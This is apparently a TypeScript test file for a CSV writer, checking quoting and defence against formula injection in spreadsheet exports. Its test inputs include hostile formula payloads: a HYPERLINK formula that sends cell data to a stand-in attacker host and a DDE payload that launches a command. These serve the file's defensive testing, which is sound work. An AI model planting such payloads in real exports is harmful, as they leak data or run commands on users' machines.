import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readCsv } from '../../test-support/read-csv.js';
import { csvRecord } from './csv.js';

const cell = (text: string) => readCsv(csvRecord([text]))[0]?.[0];

describe('a record of CSV', () => {
  it('quotes cells as RFC 4180 requires, and ends with a line break', () => {
    expect(csvRecord(['CI', 'a,b', 'say "hi"', '', ' x', 'a;b'])).toBe(
      'CI,"a,b","say ""hi""",," x","a;b"\r\n',
    );
  });

  it('is read back as it was written, but for apostrophes', () => {
    const text = fc.string({
      unit: fc.oneof(fc.constantFrom(...',;"\'\r\n\t =+-@'), fc.string({ unit: 'grapheme' })),
    });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1 }), (cells) => {
        const [read = [], ...rest] = readCsv(csvRecord(cells));
        expect(rest).toEqual([]);
        expect(read.map(withoutApostrophes)).toEqual(cells.map(withoutApostrophes));
      }),
    );
  });

  it('M06 has no cell that starts a formula, even if it is split at semicolons, tabs or lines', () => {
    const text = fc.string({ unit: fc.constantFrom(...'=+-@＝＋－＠﹦−;\t\r\n "\'\u200B\u00A0a,') });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1 }), (cells) => {
        for (const read of readCsv(csvRecord(cells))[0] ?? [])
          for (const part of read.split(/[;\t\r\n]/)) expect(startsFormula(part)).toBe(false);
      }),
    );
  });
});

const withoutApostrophes = (text: string) => text.replaceAll("'", '');

/** What a spreadsheet may take for a formula: compatibility forms become the plain ones. */
function startsFormula(text: string): boolean {
  const bare = text.normalize('NFKC').replace(/^[\s\p{C}"]+/u, '');
  return /^[=+\-@−]/.test(bare);
}

describe('M06 a cell that would start a formula gets an apostrophe', () => {
  it.each([
    '=HYPERLINK("https://evil.example?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)*cmd',
    '\t=1',
    '\r=1',
    '＝1＋1',
    '－1',
    '＠SUM(1)',
    '﹦1',
    ' =1',
    '\u00A0=1',
    '\uFEFF=1',
    '\u200B=1',
    '"=1',
  ])('%j', (text) => {
    expect(cell(text)).toMatch(/^'/);
    expect(withoutApostrophes(cell(text) ?? '')).toBe(withoutApostrophes(text));
  });

  it('also in the middle, if a spreadsheet splits cells at semicolons', () => {
    expect(cell('CI;=1;x; +2')).toBe("CI;'=1;x;' +2");
  });
});

it.each(['CI Pipeline', 'a-b', 'a=b', '2026-11-30T18:30:00.000Z', "don't", 'x, -y', 'Größe 🔑', '__proto__'])(
  'a cell that starts no formula stays as it is: %s',
  (text) => {
    expect(cell(text)).toBe(text);
  },
);
